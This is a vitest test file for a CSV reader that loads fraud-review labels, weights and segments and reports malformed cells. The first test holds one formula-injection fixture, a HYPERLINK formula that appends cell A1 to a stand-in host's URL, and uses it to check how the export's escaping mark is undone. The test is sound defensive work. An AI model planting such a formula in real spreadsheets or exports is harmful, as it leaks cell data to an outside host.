import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { FeatureDeclaration } from "../shared-model/src/types";
import { CsvError } from "./csv";
import { readLabels } from "./labels";

const FEATURES: FeatureDeclaration[] = [
  { name: "amount", transform: "log" },
  { name: "items", transform: "log1p" },
];

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "isodense-labels-"));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function file(name: string, lines: string[]): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, lines.join("\n") + "\n");
  return path;
}

async function refusal(promise: Promise<unknown>): Promise<CsvError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(CsvError);
    return error as CsvError;
  }
  throw new Error("expected a CsvError");
}

describe("readLabels", () => {
  it("undoes the export's spreadsheet mark on the header, the ids and the segments, and on nothing else", async () => {
    const path = await file("marked.csv", [
      "id,amount,items,segment,outcome,weight",
      `"'=HYPERLINK(""http://x.test/""&A1,""x"")",42.5,2,'-web,fraud,1`,
      "''quoted,18,1,app,legitimate,1",
      "'plain,12,1,app,legitimate,1",
    ]);
    const labels = await readLabels(path, { features: FEATURES, segmentCandidates: ["segment"] });
    expect(labels.ids).toEqual(['=HYPERLINK("http://x.test/"&A1,"x")', "'quoted", "'plain"]);
    expect(labels.segments).toEqual(["-web", "app", "app"]);
  });

  it("reads a review export with transactionId, outcome and weight, in file order", async () => {
    const path = await file("export.csv", [
      "transactionId,amount,items,channel,outcome,weight",
      "pay-1,42.5,2,web,fraud,1",
      "pay-2,18,1,app,legitimate,1",
      "pay-3,77.1,3,,0,500",
      "pay-4,12,1,web,1,500",
    ]);
    const labels = await readLabels(path, { features: FEATURES, segmentCandidates: ["channel", "segment"] });
    expect(labels.rows).toBe(4);
    expect(labels.ids).toEqual(["pay-1", "pay-2", "pay-3", "pay-4"]);
    expect(Array.from(labels.fraud)).toEqual([1, 0, 0, 1]);
    expect(Array.from(labels.weights)).toEqual([1, 1, 500, 500]);
    expect(Array.from(labels.values)).toEqual([42.5, 2, 18, 1, 77.1, 3, 12, 1]);
    expect(labels.segments).toEqual(["web", "app", null, "web"]);
    expect(labels.lines).toEqual([2, 3, 4, 5]);
    expect(labels.fraudCount).toBe(2);
    expect([labels.idColumn, labels.labelColumn, labels.weightColumn, labels.segmentColumn]).toEqual(["transactionId", "outcome", "weight", "channel"]);
  });

  it("falls back to the export's id and segment columns, and to weight 1 when there is no weight column", async () => {
    const path = await file("plain.csv", ["id,amount,items,segment,outcome", "a,10,1,*,legitimate", "b,900,1,web,fraud"]);
    const labels = await readLabels(path, { features: FEATURES, segmentCandidates: ["channel", "segment"] });
    expect(labels.idColumn).toBe("id");
    expect(labels.segmentColumn).toBe("segment");
    expect(labels.segments).toEqual(["*", "web"]);
    expect(labels.weightColumn).toBeNull();
    expect(Array.from(labels.weights)).toEqual([1, 1]);
  });

  it("names the file, line and column of every bad cell", async () => {
    const header = "transactionId,amount,items,outcome,weight";
    const cases: [string, string, number, string][] = [
      ["pay-1,-3,1,fraud,1", "amount", 2, "must be > 0 for the log transform"],
      ["pay-1,3,1,maybe,1", "outcome", 2, "'maybe' is not a label"],
      ["pay-1,3,1,,1", "outcome", 2, "the outcome is empty"],
      ["pay-1,3,1,fraud,0.5", "weight", 2, "0.5 is not a weight: it is 1 / inclusion probability, so at least 1"],
      ["pay-1,3,1,fraud,x", "weight", 2, "'x' is not a number"],
      [",3,1,fraud,1", "transactionId", 2, "the id is empty"],
    ];
    for (const [row, column, line, rule] of cases) {
      const error = await refusal(readLabels(await file("bad.csv", [header, row]), { features: FEATURES }));
      expect(error.column, row).toBe(column);
      expect(error.line, row).toBe(line);
      expect(error.message, row).toContain(rule);
      expect(error.message, row).toContain("bad.csv");
    }
  });

  it("names a missing column and lists the header", async () => {
    const noOutcome = await file("no-outcome.csv", ["transactionId,amount,items,label", "p,1,1,fraud"]);
    expect((await refusal(readLabels(noOutcome, { features: FEATURES }))).message).toBe(
      `column 'outcome' (--label-column) not found in header of ${noOutcome}; columns are: transactionId, amount, items, label`,
    );
    const noId = await file("no-id.csv", ["amount,items,outcome", "1,1,fraud"]);
    expect((await refusal(readLabels(noId, { features: FEATURES }))).message).toContain("has no id column: expected one of transactionId, id");
    const noWeight = await file("no-weight.csv", ["id,amount,items,outcome", "p,1,1,fraud"]);
    expect((await refusal(readLabels(noWeight, { features: FEATURES, weightColumn: "w" }))).message).toContain("column 'w' (--weight-column) not found");
    const noFeature = await file("no-feature.csv", ["id,amount,outcome", "p,1,fraud"]);
    expect((await refusal(readLabels(noFeature, { features: FEATURES }))).message).toContain("column 'items' (feature of the model) not found");
  });

  it("refuses a repeated id, or merges agreeing repeats when asked and still refuses a conflict", async () => {
    const path = await file("dupes.csv", ["id,amount,items,outcome", "p,1,1,fraud", "q,2,1,legitimate", "p,1,1,fraud"]);
    expect((await refusal(readLabels(path, { features: FEATURES }))).message).toContain("id 'p' already appears on line 2");
    const merged = await readLabels(path, { features: FEATURES, duplicates: "merge-agreeing" });
    expect([merged.rows, merged.duplicatesSkipped]).toEqual([2, 1]);
    const conflict = await file("conflict.csv", ["id,amount,items,outcome", "p,1,1,fraud", "p,1,1,legitimate"]);
    expect((await refusal(readLabels(conflict, { features: FEATURES, duplicates: "merge-agreeing" }))).message).toContain("with the other outcome");
  });
});
